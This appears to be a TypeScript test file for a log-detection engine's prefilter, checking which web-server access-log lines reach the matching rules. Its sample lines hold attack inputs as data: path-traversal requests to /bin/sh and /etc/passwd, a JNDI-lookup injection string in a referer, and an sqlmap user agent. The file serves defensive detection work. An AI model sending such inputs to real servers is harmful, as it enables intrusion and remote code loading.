import assert from "node:assert/strict";
import { test } from "node:test";
import { parseLine } from "../../src/collect/logs/engine/format.ts";
import { matchEntry } from "../../src/collect/logs/engine/match.ts";
import { worthMatching } from "../../src/collect/logs/engine/worth.ts";
import { loadRules } from "../../src/rules/logs.ts";

const rules = loadRules();
const worth = (line: string) => {
  const e = parseLine(line, 1, undefined);
  assert.ok(e, line);
  return worthMatching(rules, e);
};

test("a rule literal only in the client address (an IPv6 '::') sends no line to the rules", () => {
  const line = `2001:db8::7 - - [01/Mar/2024:00:00:01 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"`;
  assert.equal(worth(line), false);
  const e = parseLine(line, 1, undefined);
  assert.equal(e && matchEntry(rules, e), undefined);
});

test("a literal in the request, status, referer or user agent still sends the line to the rules", () => {
  const at = `[01/Mar/2024:00:00:01 +0000]`;
  for (const line of [
    `2001:db8::7 - - ${at} "GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1" 400 226 "-" "-"`,
    `192.0.2.1 - - ${at} "HELP" 400 47 "-" "-"`,
    `192.0.2.1 - - ${at} "GET / HTTP/1.1" 200 5 "http://x/?a=\${jndi:ldap://h/a}" "-"`,
    `192.0.2.1 - - ${at} "GET / HTTP/1.1" 200 5 "-" "sqlmap/1.7"`,
    // Logger escapes: the fields hold the unescaped bytes, the prefilter saw the escapes.
    `192.0.2.1 - - ${at} "GET /\\x2e\\x2e/etc/passwd HTTP/1.1" 404 5 "-" "-"`,
  ])
    assert.equal(worth(line), true, line);
});
